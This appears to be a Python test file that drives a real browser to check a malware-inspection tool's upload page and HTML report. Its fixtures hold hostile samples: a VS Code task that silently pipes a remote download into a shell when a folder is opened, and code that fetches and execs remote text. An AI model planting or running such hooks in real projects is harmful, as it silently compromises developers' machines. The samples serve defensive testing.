"""The page to drop a file on, and the report, in a real browser: a zip goes in, a person can read what comes out."""

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from inspection.test_serve import EVIL, zipped
from support.browser import chromium

TASK = """{"tasks": [{"label": "a", "type": "shell", "command": "curl -s https://a.invalid | sh",
 "presentation": {"reveal": "never", "echo": false}, "runOptions": {"runOn": "folderOpen"}}]}"""
TEST = {".vscode/tasks.json": TASK, f"{EVIL}{'a' * 120}/app.py": "import requests\nexec(requests.get('h').text)\n"}


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    """The real command, on a free port."""
    command = [sys.executable, "-m", "sekisho", "inspect", "serve", "--port", "0", "--workers", "1"]
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True) as process:
        assert process.stderr is not None
        yield process.stderr.readline().split()[1]
        process.kill()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    path = chromium()
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield opened
        opened.close()


@pytest.fixture(params=[1280, 390], ids=["wide", "phone"])
def opened(browser: Browser, address: str, request: pytest.FixtureRequest) -> Iterator[Page]:
    page = browser.new_page(viewport={"width": request.param, "height": 844})
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("request", lambda asked: said.append(asked.url) if not asked.url.startswith(address) else None)
    page.goto(address)
    yield page
    page.close()
    assert [each for each in said if "favicon" not in each] == []  # nothing was blocked, loaded or thrown


def fits(page: Page) -> bool:
    return bool(page.evaluate("document.documentElement.scrollWidth === document.documentElement.clientWidth"))


def test_a_zip_is_dropped_and_a_person_reads_what_to_do(opened: Page, tmp_path: Path) -> None:
    assert fits(opened)
    file = tmp_path / "coding test.zip"
    file.write_bytes(zipped(TEST))
    opened.set_input_files("input[type=file]", file)
    opened.click("button")
    assert opened.locator("h1").inner_text() == "BLOCK: Do not open, install or run this."
    assert "coding test.zip" in opened.locator(".verdict").inner_text()
    steps = opened.locator(".ran li").all_inner_texts()
    assert steps[0].startswith("Take that computer off the network")
    first = opened.locator("h2", has_text="What to do now").bounding_box()
    assert first is not None
    assert first["y"] < 400  # seen without scrolling, on a phone as well
    assert "When the folder is opened in an editor or terminal" in opened.locator("h3").all_inner_texts()
    assert opened.locator("img").count() == 0
    assert fits(opened)
    opened.click("text=Inspect another file")
    assert opened.locator("input[type=file]").count() == 1


def test_a_file_dragged_onto_the_page_is_taken(opened: Page, tmp_path: Path) -> None:
    """The field itself takes what is dropped on it: the page needs no script."""
    (tmp_path / "app.py").write_text("print(1)\n")
    box = opened.locator("input[type=file]").bounding_box()
    assert box is not None
    session = opened.context.new_cdp_session(opened)
    for kind in ("dragEnter", "dragOver", "drop"):
        dragged = {"items": [], "files": [str(tmp_path / "app.py")], "dragOperationsMask": 1}
        at = {"x": box["x"] + box["width"] / 2, "y": box["y"] + box["height"] / 2}
        session.send("Input.dispatchDragEvent", {"type": kind, "data": dragged, **at})
    opened.wait_for_function("document.querySelector('input').files.length === 1")
    opened.click("button")
    assert opened.locator("h1").inner_text().startswith("NO CHAIN FOUND: ")
    assert "safe" not in opened.locator("body").inner_text().lower()


def test_the_report_as_a_file_allows_nothing(browser: Browser, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "app.py").write_text(f"import requests\nexec(requests.get('h').text)  # {EVIL}</style>\n")
    command = [sys.executable, "-m", "sekisho", "inspect", str(tmp_path / "in"), "--format", "html"]
    done = subprocess.run(command, capture_output=True, check=False)
    assert done.returncode == 1
    file = tmp_path / "report.html"
    file.write_bytes(done.stdout)
    page = browser.new_page(viewport={"width": 390, "height": 844})
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(file.as_uri())
    assert page.locator("img").count() == 0
    assert "onerror" in page.locator("body").inner_text()
    assert fits(page)
    assert said == []
    page.close()
